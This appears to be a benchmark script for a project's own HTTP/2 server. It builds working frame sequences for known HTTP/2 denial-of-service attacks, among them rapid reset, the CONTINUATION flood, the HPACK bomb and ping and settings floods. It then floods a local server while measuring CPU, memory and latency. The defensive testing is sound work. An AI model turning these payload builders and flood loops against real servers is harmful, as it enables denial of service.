"""Measures the costs of known attacks on HTTP/2, for the server and for the attacker: ``make attacks``.

An attack is either a flood of bytes on one connection after the other, or connections that are held. The server has the
last core, and the attacker the first one. Its bytes are made beforehand, so that it only sends them.
"""

import argparse
import contextlib
import resource
import socket
import statistics
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

from client import Connection, Request
from http2 import PREFACE, frame
from peers import Service, ianus
from process import Cores, Process, choose_cores, pinned
from visit import Setting, serving

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
PRIORITY_UPDATE = 0x10
END_STREAM, END_HEADERS, WHOLE = 0x1, 0x4, 0x5  # flags
INITIAL_WINDOW_SIZE = 4
ROUNDS = 20_000  # of the frames of a flood on one connection
STREAMS = range(1, 2 * ROUNDS, 2)
LARGEST = 2**31 - 1  # bytes of a window (RFC 9113 section 6.9.1)

# Fields by their number in the static table (RFC 7541 appendix A), and literals after the number of their name
GET = b"\x82\x86\x01\x01a"
POST = b"\x83\x86\x84\x01\x01a"
HELLO = GET + b"\x84"
LARGE = GET + b"\x04\x0a/100000000"  # of apps:download

FLOOD_SECONDS = 3.0
SILENCE_SECONDS = 0.2  # for which the attacker waits for the end of its connection
SETTLE_SECONDS = 1.0
IDLE_SECONDS = 60.0
VISIT_SECONDS = 0.02  # between the requests of another client
MEGABYTE = 1e6
ADDRESS = "127.0.0.1"


def setting(number: int, value: int) -> bytes:
    """Returns a frame of SETTINGS with one value."""
    return frame(SETTINGS, 0, 0, number.to_bytes(2) + value.to_bytes(4))


def window_update(stream: int, size: int) -> bytes:
    """Returns a frame that opens a window."""
    return frame(WINDOW_UPDATE, 0, stream, size.to_bytes(4))


def head(stream: int, block: bytes = HELLO, flags: int = WHOLE) -> bytes:
    """Returns a frame of HEADERS."""
    return frame(HEADERS, flags, stream, block)


def bomb() -> bytes:
    """Returns requests of 16,000 fields, each of which is the first entry of the table, of 4,000 bytes."""
    entry = b"\x40\x06x-bomb" + b"\x7f\xa1\x1e" + b"b" * 4000
    return head(1, HELLO + entry) + b"".join(head(stream, HELLO + b"\xbe" * 16000) for stream in range(3, 203, 2))


def leak() -> bytes:
    """Returns requests of 5,000 fields without name and value."""
    return b"".join(head(stream, HELLO + b"\x00\x00\x00" * 5000) for stream in range(1, 201, 2))


@dataclass(frozen=True)
class Attack:
    """make: makes the bytes of one connection after the preface. is_held: the connections stay, and read nothing."""

    text: str
    make: Callable[[], bytes]
    is_held: bool = False


ATTACKS = (
    Attack(
        "CVE-2023-44487 rapid reset",
        lambda: b"".join(head(each) + frame(RST_STREAM, 0, each, bytes(4)) for each in STREAMS),
    ),
    Attack(
        "CVE-2025-8671 made you reset",
        lambda: b"".join(head(each) + window_update(each, 0) for each in STREAMS),
    ),
    Attack(
        "RUSTSEC-2024-0332 CONTINUATION",
        lambda: head(1, b"", END_STREAM) + frame(CONTINUATION, 0, 1, bytes(16384)) * 100,
    ),
    Attack("the same, of one byte", lambda: head(1, b"", END_STREAM) + frame(CONTINUATION, 0, 1, b"\x82") * ROUNDS),
    Attack("CVE-2016-6581 HPACK bomb", bomb),
    Attack(
        "CVE-2016-6580 priorities",
        lambda: b"".join(frame(PRIORITY_UPDATE, 0, 0, each.to_bytes(4) + b"u=1") for each in STREAMS),
    ),
    Attack("CVE-2019-9512 PING", lambda: frame(PING, 0, 0, bytes(8)) * ROUNDS),
    Attack(
        "CVE-2019-9513 PRIORITY",
        lambda: head(1, POST, END_HEADERS) + frame(PRIORITY, 0, 1, bytes(4) + b"\x10") * ROUNDS,
    ),
    Attack(
        "CVE-2019-9514 invalid requests",
        lambda: b"".join(head(each, b"\x82") for each in STREAMS),
    ),
    Attack("CVE-2019-9515 SETTINGS", lambda: setting(INITIAL_WINDOW_SIZE, 1) * ROUNDS),
    Attack("CVE-2019-9516 empty fields", leak),
    Attack("CVE-2019-9518 empty DATA", lambda: head(1, POST, END_HEADERS) + frame(DATA, 0, 1) * ROUNDS),
    Attack(
        "CVE-2019-9511 data dribble",
        lambda: setting(INITIAL_WINDOW_SIZE, 0) + head(1, LARGE) + window_update(1, 1) * ROUNDS,
    ),
    Attack(
        "CVE-2019-9517 internal buffering",
        lambda: (
            setting(INITIAL_WINDOW_SIZE, LARGEST)
            + window_update(0, LARGEST - 65535)
            + b"".join(head(each, LARGE) for each in STREAMS[:100])
        ),
        is_held=True,
    ),
    Attack(
        "a stalled stream",
        lambda: setting(INITIAL_WINDOW_SIZE, 0) + head(1, LARGE),
        is_held=True,
    ),
    Attack(
        "100 stalled streams",
        lambda: setting(INITIAL_WINDOW_SIZE, 0) + b"".join(head(each, LARGE) for each in STREAMS[:100]),
        is_held=True,
    ),
)


class Visitor:
    """Another client, whose requests are measured: on one connection of HTTP/1.1, in a thread of its own."""

    def __init__(self, port: int) -> None:
        self._port = port
        self._is_over = threading.Event()
        self._thread = threading.Thread(target=self._visit)
        self.times: list[float] = []  # seconds of each request

    def __enter__(self) -> "Visitor":
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._is_over.set()
        self._thread.join()

    def _visit(self) -> None:
        request = Request().raw(self._port)
        with Connection(self._port) as connection:
            while not self._is_over.wait(VISIT_SECONDS):
                started = time.monotonic()
                connection.ask(request)
                self.times.append(time.monotonic() - started)


@dataclass(frozen=True)
class Cost:
    """The costs of an attack. Times of CPU are in seconds, memory in bytes. visit: median of another client."""

    connections: int
    sent: int
    attacker: float
    server: float
    visit: float
    growth: int
    rest: int


def measure(process: Process, port: int, attack: Attack | None, seconds: float, held: int) -> Cost:
    """Measures an attack, or the same time without one."""
    data = PREFACE + frame(SETTINGS, 0, 0) + attack.make() if attack else b""
    before, peak, busy = process.anonymous_bytes(), process.reset_peak(), process.cpu_ns()
    with Visitor(port) as visitor:
        with contextlib.ExitStack() as stack:
            started = thread_cpu()
            if attack is None:
                time.sleep(seconds)
                connections, sent = 0, 0
            elif attack.is_held:
                connections, sent = hold(port, data, held, stack)
            else:
                connections, sent = flood(port, data, seconds)
            attacker = thread_cpu() - started
            time.sleep(SETTLE_SECONDS)
            growth = process.peak_bytes() - peak
        # Applications may work on after their clients have left.
        wait_until_idle(process)
        used = (process.cpu_ns() - busy) / 1e9
    rest = process.anonymous_bytes() - before
    process.require_alive()
    return Cost(connections, sent, attacker, used, statistics.median(visitor.times), growth, rest)


def wait_until_idle(process: Process) -> None:
    """Waits until the server does little more than to answer the other client, at most IDLE_SECONDS."""
    deadline, busy = time.monotonic() + IDLE_SECONDS, process.cpu_ns()
    while time.monotonic() < deadline:
        time.sleep(SETTLE_SECONDS)
        before, busy = busy, process.cpu_ns()
        if busy - before < SETTLE_SECONDS * 1e8:
            return


def thread_cpu() -> float:
    """Returns the seconds of CPU that this thread has used."""
    usage = resource.getrusage(resource.RUSAGE_THREAD)
    return usage.ru_utime + usage.ru_stime


def flood(port: int, data: bytes, seconds: float) -> tuple[int, int]:
    """Sends the data on one connection after the other. Returns their number, and that of the bytes sent."""
    connections = sent = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        with socket.create_connection((ADDRESS, port)) as sock:
            sock.settimeout(SILENCE_SECONDS)
            connections += 1
            with contextlib.suppress(OSError):
                sent += send(sock, data)
                sock.shutdown(socket.SHUT_WR)
                while sock.recv(1 << 16):
                    pass
    return connections, sent


def send(sock: socket.socket, data: bytes) -> int:
    """Sends until the server ends the connection or reads no more. Returns the number of bytes."""
    view, sent = memoryview(data), 0
    with contextlib.suppress(OSError):
        while sent < len(data):
            sent += sock.send(view[sent : sent + (1 << 16)])
    return sent


def hold(port: int, data: bytes, number: int, stack: contextlib.ExitStack) -> tuple[int, int]:
    """Opens connections that stay open for as long as the stack. Returns their number, and that of the bytes sent."""
    sent = 0
    for _ in range(number):
        sock = stack.enter_context(socket.socket())
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.connect((ADDRESS, port))
        sock.settimeout(SILENCE_SECONDS)
        sent += send(sock, data)
    return number, sent


def row(text: str, cost: Cost) -> str:
    """Returns a line of the table."""
    ratio = f"{cost.server / cost.attacker:.2f}" if cost.connections else "-"
    return (
        f"| {text} | {cost.connections:,} | {cost.sent / MEGABYTE:,.1f} | {cost.attacker:.2f} | {cost.server:.2f} |"
        f" {ratio} | {1e3 * cost.visit:.2f} | {cost.growth / MEGABYTE:,.1f} | {cost.rest / MEGABYTE:,.1f} |"
    )


@contextlib.contextmanager
def server(cores: Cores) -> Iterator[tuple[Process, int]]:
    """Starts Ianus with HTTP/2 without TLS."""
    build = ianus("ianus", Path(sys.executable).with_name("ianus"))
    with tempfile.TemporaryDirectory(prefix="bench-attacks-") as name:
        service = Service("apps:download", http2=True)
        with serving(build, service, Request(), Setting(cores, 0, Path(name))) as running:
            yield running.process, running.port


def chosen(patterns: Sequence[str]) -> list[Attack]:
    """Returns the attacks whose texts have one of these parts, or all."""
    return [each for each in ATTACKS if not patterns or any(part.lower() in each.text.lower() for part in patterns)]


def main() -> None:
    """Prints a table of all attacks."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--attack", nargs="*", default=[], help="parts of the names of attacks")
    parser.add_argument("--seconds", type=float, default=FLOOD_SECONDS, help="of each flood")
    parser.add_argument("--held", type=int, default=1000, help="connections of the attacks that hold them")
    options = parser.parse_args()
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    cores = choose_cores()
    columns = ("attack", "connections", "MB sent", "attacker CPU s", "server CPU s", "ratio", "other client ms")
    print(f"| {' | '.join((*columns, 'MB in it', 'MB after'))} |")
    print("|---|---|---|---|---|---|---|---|---|")
    for attack in (None, *chosen(options.attack)):
        # A server of its own for each, so that the memory is that of the attack.
        with server(cores) as (process, port), pinned(cores.load):
            cost = measure(process, port, attack, options.seconds, options.held)
        print(row(attack.text if attack else "none", cost), flush=True)


if __name__ == "__main__":
    main()
